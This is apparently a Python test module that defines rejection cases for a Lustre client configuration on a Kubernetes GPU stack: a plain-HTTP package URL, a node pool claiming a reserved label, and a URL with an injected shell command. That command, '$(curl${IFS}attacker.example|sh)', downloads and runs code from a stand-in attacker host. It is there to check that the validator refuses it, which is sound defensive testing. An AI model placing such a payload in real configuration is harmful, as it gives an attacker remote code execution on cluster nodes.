"""Lustre client variants of the dev stack: a package archive the nodes would fetch unauthenticated or that would
inject shell into their cloud-init, and a node pool claiming the label that attracts Lustre pods (refused, exit 2);
each control previews clean."""
from __future__ import annotations

from typing import Any

from .configs import CONFIG_CASES, Edit

SHA = "0123456789abcdef" * 4
URL = "https://objectstorage.sa-saopaulo-1.oraclecloud.com/p/token/n/ns/b/lustre/o/ol8-lustre-client.tar.gz"


def _client(url: str) -> Edit:
    def edit(doc: dict[str, Any]) -> None:
        doc["config"].setdefault("oke-rdma:storage", {})["lustre"] = {
            "capacityGb": 31200, "tenants": ["research"],
            "client": {"packages": {"oracleLinux8": {"url": url, "sha256": SHA}}}}
    return edit


def _gpu_labels(labels: dict[str, str]) -> Edit:
    def edit(doc: dict[str, Any]) -> None:
        doc["config"]["oke-rdma:nodePools"]["gpu"].setdefault("labels", {}).update(labels)
    return edit


CONFIG_CASES.update({
    "lustre_client_archive_over_plain_http": (
        "data", "oke-rdma:storage.lustre.client.packages.oracleLinux8.url",
        _client(URL.replace("https://", "http://")), _client(URL)),
    "lustre_client_archive_url_injects_shell": (
        "pod", "oke-rdma:storage.lustre.client.packages.oracleLinux8.url",
        _client(URL + "$(curl${IFS}attacker.example|sh)"), _client(URL)),
    "pool_claims_the_lustre_client_label": (
        "placement", 'oke-rdma:nodePools.gpu.labels["okerdma.io/lustre-client"]',
        _gpu_labels({"okerdma.io/lustre-client": "true"}), _gpu_labels({"okerdma.io/role": "training"})),
})
